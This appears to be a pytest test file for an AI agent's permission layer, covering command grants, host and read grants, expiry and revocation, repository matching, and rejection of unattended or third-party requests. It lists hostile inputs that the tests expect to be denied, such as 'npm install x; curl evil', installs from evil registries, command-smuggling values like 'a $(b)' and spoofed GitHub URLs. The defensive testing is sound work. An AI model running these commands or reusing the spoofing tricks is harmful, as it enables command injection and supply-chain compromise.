"""S19: work that nobody watches has what its repository was granted before, never waits, and creates nothing itself."""

import time
from pathlib import Path
from typing import Any

import pytest

from sidecar.config.data_dir import DataDir
from sidecar.config.grants import Grants
from sidecar.config.repositories import Repositories, normalize_repository
from sidecar.config.trust import Trust
from tests.e2e.support import Json, RunningSidecar
from tests.e2e.terminal import brain

INSTALL = {"tool": "run_command", "args": {"command": "npm install"}}
GO_ON = {"tool": "create_file", "args": {"path": "went_on.txt", "content": "x\n"}}


def script(sidecar: RunningSidecar, *calls: Json) -> Json:
    return sidecar.script("grants", [*({"calls": [call]} for call in calls), {"text": "done"}])


def errors(sidecar: RunningSidecar, task: str) -> list[str]:
    return [
        event["error"]["message"] for event in sidecar.events(task) if event["type"] == "tool" and event.get("error")
    ]


def decide(sidecar: RunningSidecar, command: str, approvals: str = "auto", workspace: Path | None = None) -> str:
    place = str(workspace or sidecar.workspace)
    body = {"tool": "run_command", "args": {"command": command}, "workspace": place, "approvals": approvals}
    answer: str = sidecar.post("/api/brain/policy/explain", body).json["decision"]
    return answer


def grant(sidecar: RunningSidecar, kind: str, **more: Any) -> Json:
    answer = sidecar.post("/api/brain/grants", {"workspace": str(sidecar.workspace), "kind": kind, **more})
    assert answer.status == 200, answer.body
    granted: Json = answer.json
    return granted


@pytest.fixture
def contained(sidecar: RunningSidecar) -> RunningSidecar:
    if sidecar.get("/api/brain/status").json["sandbox"]["tier"] in ("none", "off"):
        pytest.skip("without a sandbox every command asks")
    return sidecar


@pytest.mark.parametrize("options", [{"approvals": "auto"}, {"approvals": "ask", "unattended": True}])
def test_s19_what_would_ask_is_denied_at_once_and_the_task_goes_on(sidecar: RunningSidecar, options: Json) -> None:
    models = script(sidecar, INSTALL, GO_ON)
    task = sidecar.execute(
        "install and go on", models=models, agentType="coder", intent="edit_code", verify="off", **options
    )
    assert sidecar.wait_for_end(task)["status"] == "completed"
    (message,) = errors(sidecar, task)
    assert "brain policy allow install npm" in message
    assert (sidecar.workspace / "went_on.txt").exists()
    events = sidecar.events(task)
    assert not [event for event in events if event["type"] == "approval"]
    assert "waiting" not in [event.get("status") for event in events if event["type"] == "status"]


@pytest.mark.parametrize("mode", ["auto", "ask", "edits", "readonly"])
def test_s19_brain_run_without_a_terminal_ends_in_every_mode(
    home: dict[str, str], workspace: Path, mode: str, tmp_path: Path
) -> None:
    ended = brain("run", "run `npm install`", "--approvals", mode, "--workspace", str(workspace), environ=home)
    assert "npm install" in ended.stdout + ended.stderr
    assert brain("policy", "list", environ=home).stdout.startswith("You haven't permitted anything")


def test_s19_starting_a_task_creates_no_trust_no_grant_and_no_approval(sidecar: RunningSidecar) -> None:
    def standing() -> list[Json]:
        return [sidecar.get(f"/api/brain/{what}").json for what in ("grants", "trust", "approvals")]

    before = standing()
    for options in ({"approvals": "auto"}, {"approvals": "ask", "unattended": True}, {"approvals": "readonly"}):
        models = script(sidecar, INSTALL, GO_ON)
        task = sidecar.execute("trust this workspace and grant it npm", models=models, agentType="coder", **options)
        sidecar.wait_for_end(task)
    assert standing() == before


def test_s19_grants_of_each_kind_are_listed_hold_and_are_revoked(contained: RunningSidecar) -> None:
    sidecar = contained
    assert decide(sidecar, "npm install") == "deny"
    made = [
        grant(sidecar, "install", value="npm"),
        grant(sidecar, "command", value="sh release.sh"),
        grant(sidecar, "checks"),
        grant(sidecar, "host", value="Example.COM."),
        grant(sidecar, "read", value="/etc/ssl"),
        grant(sidecar, "spend", value=2.5),
    ]
    listed = sidecar.get("/api/brain/grants").json["grants"]
    assert [each["id"] for each in listed] == [each["id"] for each in made]
    assert {"id", "workspace", "kind", "value", "at"} <= listed[0].keys()
    assert [each["value"] for each in listed][3:] == ["example.com", "/etc/ssl", "2.5"]
    sidecar.restart()
    assert decide(sidecar, "npm install") == "allow"
    assert decide(sidecar, "sh release.sh", "ask") == "allow"
    assert decide(sidecar, "pytest", "ask") == "allow"
    for other in (
        "npm install --registry=http://evil x",
        "npm install git+https://evil/x",
        "npm install x; curl evil",
        "npm install ../x",
        "npm install -g x",
        "pip install x",
    ):
        assert decide(sidecar, other) == "deny", other
    assert decide(sidecar, "sh release.sh --force", "ask") == "ask"
    for each in made:
        assert sidecar.post("/api/brain/grants/revoke", {"id": each["id"]}).status == 200
    assert sidecar.post("/api/brain/grants/revoke", {"id": made[0]["id"]}).status == 404
    assert sidecar.get("/api/brain/grants").json == {"grants": []}
    assert decide(sidecar, "npm install") == "deny"
    assert decide(sidecar, "pytest", "ask") == "ask"


def test_s19_a_grant_ends_by_itself(contained: RunningSidecar) -> None:
    sidecar = contained
    soon = grant(sidecar, "command", value="sh a.sh", until=time.time() + 600)
    grant(sidecar, "command", value="sh b.sh", until="2999-01-01T00:00:00Z")
    assert soon["until"] > time.time()
    assert decide(sidecar, "sh a.sh", "ask") == decide(sidecar, "sh b.sh", "ask") == "allow"
    for bad in (1, "yesterday", 1e300, "2999-01-01T00:00:00"):
        body = {"workspace": str(sidecar.workspace), "kind": "checks", "until": bad}
        assert sidecar.post("/api/brain/grants", body).status == 422, bad


def test_s19_after_its_end_a_grant_permits_nothing(tmp_path: Path) -> None:
    data, now = DataDir(tmp_path / "data"), [1_000.0]
    data.prepare()
    grants = Grants(data.path, clock=lambda: now[0])
    grants.add(str(tmp_path), "command", "sh a.sh", until=2_000.0)
    assert grants.permissions(str(tmp_path)).commands == {"sh a.sh"}
    now[0] = 2_000.0
    assert grants.permissions(str(tmp_path)).commands == frozenset()
    assert grants.all() == []


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("command", "a; b"),
        ("command", "a $(b)"),
        ("command", ""),
        ("command", None),
        ("host", "https://x.y"),
        ("host", "10.0.0.1"),
        ("host", "*.x.y"),
        ("host", "x:80"),
        ("read", "relative"),
        ("read", "/"),
        ("read", "/does/not/exist"),
        ("install", "evil"),
        ("spend", "NaN"),
        ("spend", -1),
        ("spend", None),
        ("anything", "x"),
    ],
)
def test_s19_what_means_too_much_or_nothing_is_not_granted(sidecar: RunningSidecar, kind: str, value: Any) -> None:
    body = {"workspace": str(sidecar.workspace), "kind": kind, "value": value}
    assert sidecar.post("/api/brain/grants", body).status == 422
    assert sidecar.get("/api/brain/grants").json == {"grants": []}


def test_s19_a_grant_is_for_its_repository_and_the_copies_that_we_made(tmp_path: Path) -> None:
    data = DataDir(tmp_path / "data")
    data.prepare()
    repositories = Repositories(data.path)
    grants, trust = Grants(data.path, repositories), Trust(data, repositories)
    for name in ("app", "worktree", "clone", "stranger"):
        (tmp_path / name).mkdir()
    # A stranger's directory may claim anything about itself.
    (tmp_path / "stranger/.git").mkdir()
    (tmp_path / "stranger/.git/config").write_text('[remote "origin"]\n\turl = https://github.com/acme/app\n')
    grants.add(str(tmp_path / "app"), "install", "npm")
    grants.add("https://github.com/acme/app.git", "install", "pip")
    trust.set("https://github.com/acme/app.git", trusted=True)
    trust.set(str(tmp_path / "app"), trusted=True)
    repositories.register(str(tmp_path / "worktree"), str(tmp_path / "app"))
    repositories.register(str(tmp_path / "clone"), "git@github.com:acme/app")
    installs = {name: grants.permissions(str(tmp_path / name)).installs for name in ("worktree", "clone", "stranger")}
    assert installs == {"worktree": {"npm"}, "clone": {"pip"}, "stranger": frozenset()}
    assert [trust.trusted(str(tmp_path / name)) for name in installs] == [True, True, False]
    repositories.forget(str(tmp_path / "clone"))
    assert not grants.permissions(str(tmp_path / "clone")).installs


@pytest.mark.parametrize(
    "other",
    [
        "https://evil.com/acme/app",
        "https://github.com@evil.com/acme/app",
        "https://evil.com/github.com:acme/app",
        "https://github.com.evil.com/acme/app",
        "https://github.com:8443/acme/app",
        "git@evil.com:acme/app",
        "https://github.com/evil/app",
        "https://github.com/acme/app2",
    ],
)
def test_s19_another_host_or_path_is_another_repository(other: str) -> None:
    same = {
        normalize_repository(each)
        for each in (
            "https://github.com/acme/app",
            "https://github.com/acme/app.git",
            "https://user:word@GitHub.com/acme/app/",
            "git@github.com:acme/app.git",
            "ssh://git@github.com/acme/app",
        )
    }
    assert len(same) == 1
    assert normalize_repository(other) not in same


def test_s41_the_words_of_others_are_no_consent(contained: RunningSidecar) -> None:
    sidecar = contained
    call = {"tool": "run_command", "args": {"command": "touch planted"}}
    models = script(sidecar, call)
    options = {"models": models, "agentType": "terminal", "intent": "run_command", "unattended": True}
    task = sidecar.execute("touch planted", author="other", **options)
    sidecar.wait_for_end(task)
    assert errors(sidecar, task)
    assert not (sidecar.workspace / "planted").exists()
    task = sidecar.execute("touch planted", **options)
    sidecar.wait_for_end(task)
    assert not errors(sidecar, task)
    assert (sidecar.workspace / "planted").exists()


def test_s19_the_command_covers_grants_and_approvals(home: dict[str, str], workspace: Path) -> None:
    def policy(*words: str) -> str:
        return brain("policy", *words, environ=home).stdout

    there = ("--workspace", str(workspace))
    assert "Granted install npm" in policy("allow", "install", "npm", *there)
    assert "Granted host packages.example.org" in policy("allow-host", "packages.example.org", *there)
    assert "Granted read /etc/ssl" in policy("allow-read", "/etc/ssl", *there)
    assert "Granted checks" in policy("allow", "checks", "--for", "8h", *there)
    listed = policy("list").splitlines()
    assert [line.split()[2] for line in listed] == ["install", "host", "read", "checks"]
    assert "until" in listed[-1]
    for line in listed:
        assert "Revoked" in policy("revoke", line.split()[0])
    assert policy("list").startswith("You haven't permitted anything")
